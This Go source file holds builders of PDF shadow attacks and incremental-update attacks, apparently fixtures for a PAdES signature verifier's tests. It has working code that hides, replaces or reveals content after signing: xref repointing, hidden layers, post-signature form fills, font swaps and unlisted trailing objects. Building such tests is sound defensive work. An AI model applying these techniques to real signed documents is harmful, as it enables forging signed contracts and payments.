package pades

import (
	"bytes"
	"fmt"
)

// Builders of shadow attacks (Mainka et al., NDSS 2021) and of the
// incremental saves that change what a signed page shows, for
// attacks_test.go: each prepares what the signer signs, or changes it
// after, as the attacker would.

// shadowText is what the shadow attacks show once revealed.
const shadowText = "BT /F1 24 Tf 72 720 Td (Amount: 92,000 EUR) Tj ET"

// WithShadowContent appends, after the document's last %%EOF and outside
// any cross-reference section, a second object of the number of the first
// page's content stream holding other text: bytes the signer signs that no
// reader reaches. It returns the file and the object's offset.
func WithShadowContent(pdf []byte) ([]byte, int64, error) {
	content, err := FirstPageContent(pdf)
	if err != nil {
		return nil, 0, err
	}
	var b bytes.Buffer
	b.Write(pdf)
	at := int64(b.Len())
	fmt.Fprintf(&b, "%d 0 obj\n", content)
	writeObject(&b, &stream{dict: newDict(), raw: []byte(shadowText)})
	b.WriteString("\nendobj\n")
	return b.Bytes(), at, nil
}

// AppendXrefRepoint appends an update that writes no object: only a
// cross-reference section placing object num at off, where the signed
// bytes already hold another object of that number (hide-and-replace).
func AppendXrefRepoint(pdf []byte, num int, off int64) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	b.Write(pdf)
	xrefAt := b.Len()
	fmt.Fprintf(&b, "xref\n%d 1\n%010d 00000 n\r\n", num, off)
	t := newDict()
	for _, k := range []name{"Size", "Root", "Info", "ID"} {
		if v := doc.trailer.get(k); v != nil {
			t.set(k, v)
		}
	}
	t.set("Prev", number(fmt.Sprint(doc.lastXref)))
	b.WriteString("trailer\n")
	writeObject(&b, t)
	fmt.Fprintf(&b, "\nstartxref\n%d\n%%%%EOF\n", xrefAt)
	return b.Bytes(), nil
}

// AppendNewPage appends an update adding a page, first in the page tree,
// showing text.
func AppendNewPage(pdf []byte) ([]byte, error) {
	doc, _, cat, err := parseCatalog(pdf)
	if err != nil {
		return nil, err
	}
	pagesRef, ok := cat.get("Pages").(ref)
	if !ok {
		return nil, fmt.Errorf("no page tree")
	}
	pages, err := doc.resolveDict(pagesRef)
	if err != nil || pages == nil {
		return nil, fmt.Errorf("no page tree: %v", err)
	}
	_, first, err := doc.firstPage()
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	content, page := u.alloc(), u.alloc()
	u.put(content, &stream{dict: newDict(), raw: []byte(shadowText)})
	p := newDict()
	p.set("Type", name("Page"))
	p.set("Parent", pagesRef)
	p.set("MediaBox", first.get("MediaBox"))
	p.set("Resources", first.get("Resources"))
	p.set("Contents", content)
	u.put(page, p)
	kids, _ := doc.resolve(pages.get("Kids"))
	k, _ := kids.(array)
	np := pages.clone()
	np.set("Kids", append(array{page}, k...))
	cnt, _ := pages.get("Count").(number)
	n, _ := cnt.int()
	np.set("Count", number(fmt.Sprint(n+1)))
	u.put(pagesRef, np)
	return u.bytes(), nil
}

// AppendFontSwap appends an update redefining, under its own number, the
// font the first page calls /F1: Courier for Helvetica.
func AppendFontSwap(pdf []byte) ([]byte, error) {
	doc, _, page, err := openFirstPage(pdf)
	if err != nil {
		return nil, err
	}
	res, _ := doc.resolveDict(page.get("Resources"))
	fonts, _ := doc.resolveDict(res.get("Font"))
	fr, ok := fonts.get("F1").(ref)
	if !ok {
		return nil, fmt.Errorf("no indirect /F1")
	}
	font, err := doc.resolveDict(fr)
	if err != nil || font == nil {
		return nil, fmt.Errorf("no font: %v", err)
	}
	f := font.clone()
	f.set("BaseFont", name("Courier"))
	u := newUpdate(doc)
	u.put(fr, f)
	return u.bytes(), nil
}

// WithTextField appends an update adding to the first page an empty text
// field (ISO 32000-1 §12.7.4.3) over attackBox, as a document prepared
// for a shadow attack by form filling; it returns the field's number.
func WithTextField(pdf []byte) ([]byte, int, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, 0, err
	}
	u := newUpdate(doc)
	field := u.next // addField's first allocation
	if err := u.addField(ref{}, nil); err != nil {
		return nil, 0, err
	}
	for _, o := range u.objs {
		if o.num != field {
			continue
		}
		l := &lexer{buf: o.body}
		w, err := l.object(0)
		if err != nil {
			return nil, 0, err
		}
		wd := w.(*dict).clone()
		wd.set("FT", name("Tx"))
		wd.set("T", pdfStr("Amount"))
		wd.set("V", pdfStr(""))
		wd.set("F", number("4"))
		wd.set("Rect", array{number("60"), number("690"), number("540"), number("780")})
		u.put(ref{o.num, o.gen}, wd)
		return u.bytes(), field, nil
	}
	return nil, 0, fmt.Errorf("the widget is not object %d", field)
}

// AppendFormFill appends an update filling text field num with text and
// its appearance, as a reader saving a filled form does.
func AppendFormFill(pdf []byte, num int, text string) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	w, err := doc.resolveDict(ref{num, 0})
	if err != nil || w == nil {
		return nil, fmt.Errorf("no field %d: %v", num, err)
	}
	u := newUpdate(doc)
	f := w.clone()
	u.appearance(f, &Appearance{Rect: overBox, Lines: []string{text}})
	f.set("V", pdfStr(text))
	f.set("F", number("4"))
	u.put(ref{num, 0}, f)
	return u.bytes(), nil
}

// WithHiddenLayer appends an update that adds to the first page text in
// an optional content group (ISO 32000-1 §8.11) the catalog's
// /OCProperties turns off: signed, and not shown.
func WithHiddenLayer(pdf []byte) ([]byte, error) {
	doc, catRef, cat, err := parseCatalog(pdf)
	if err != nil {
		return nil, err
	}
	pageRef, page, err := doc.firstPage()
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	ocg, props, layer := u.alloc(), u.alloc(), u.alloc()
	g := newDict()
	g.set("Type", name("OCG"))
	g.set("Name", pdfStr("amount"))
	u.put(ocg, g)
	d := newDict()
	d.set("OFF", array{ocg})
	p := newDict()
	p.set("OCGs", array{ocg})
	p.set("D", d)
	u.put(props, p)
	u.put(layer, &stream{dict: newDict(), raw: []byte("/OC /L0 BDC 1 1 1 rg 60 690 480 90 re f 0 0 0 rg " + shadowText + " EMC")})
	c := cat.clone()
	c.set("OCProperties", props)
	u.put(catRef, c)
	res, _ := doc.resolveDict(page.get("Resources"))
	nr := newDict()
	if res != nil {
		nr = res.clone()
	}
	pr := newDict()
	pr.set("L0", ocg)
	nr.set("Properties", pr)
	np := page.clone()
	np.set("Resources", nr)
	np.set("Contents", array{page.get("Contents"), layer})
	u.put(pageRef, np)
	return u.bytes(), nil
}

// AppendLayerShown appends an update turning on every optional content
// group of the document (its /OCProperties rewritten in place).
func AppendLayerShown(pdf []byte) ([]byte, error) {
	doc, _, cat, err := parseCatalog(pdf)
	if err != nil {
		return nil, err
	}
	r, ok := cat.get("OCProperties").(ref)
	if !ok {
		return nil, fmt.Errorf("no indirect /OCProperties")
	}
	p, err := doc.resolveDict(r)
	if err != nil || p == nil {
		return nil, fmt.Errorf("no /OCProperties: %v", err)
	}
	np := p.clone()
	d := newDict()
	d.set("ON", p.get("OCGs"))
	np.set("D", d)
	u := newUpdate(doc)
	u.put(r, np)
	return u.bytes(), nil
}

// AppendUnlistedContent appends, after the last %%EOF and in no
// cross-reference section, an object of the number of the first page's
// content stream holding other text, then comment lines up to size bytes:
// with no startxref in the file's last kilobyte, qpdf rebuilds the table by
// scanning, and the last object of a number wins.
func AppendUnlistedContent(pdf []byte, size int) ([]byte, error) {
	content, err := FirstPageContent(pdf)
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	b.Write(pdf)
	fmt.Fprintf(&b, "\n%d 0 obj\n", content)
	writeObject(&b, &stream{dict: newDict(), raw: []byte(shadowText)})
	b.WriteString("\nendobj\n")
	for b.Len()-len(pdf) < size {
		b.WriteString("%" + string(bytes.Repeat([]byte("x"), 70)) + "\n")
	}
	return b.Bytes(), nil
}

// WithContentAsObjectStream appends an update adding to the first page's
// content a stream typed as an object stream holding no object — its
// data, drawn as content, shows nothing — and returns its number: a
// structural object a verifier may pass over.
func WithContentAsObjectStream(pdf []byte) ([]byte, int, error) {
	doc, pageRef, page, err := openFirstPage(pdf)
	if err != nil {
		return nil, 0, err
	}
	u := newUpdate(doc)
	r := u.alloc()
	d := newDict()
	d.set("Type", name("ObjStm"))
	d.set("N", number("0"))
	d.set("First", number("0"))
	u.put(r, &stream{dict: d, raw: []byte("q Q")})
	p := page.clone()
	p.set("Contents", array{page.get("Contents"), r})
	u.put(pageRef, p)
	return u.bytes(), r.num, nil
}

// AppendContentStream appends an update redefining object num as a
// content stream showing shadowText.
func AppendContentStream(pdf []byte, num int) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	u.put(ref{num, 0}, &stream{dict: newDict(), raw: []byte(shadowText)})
	return u.bytes(), nil
}
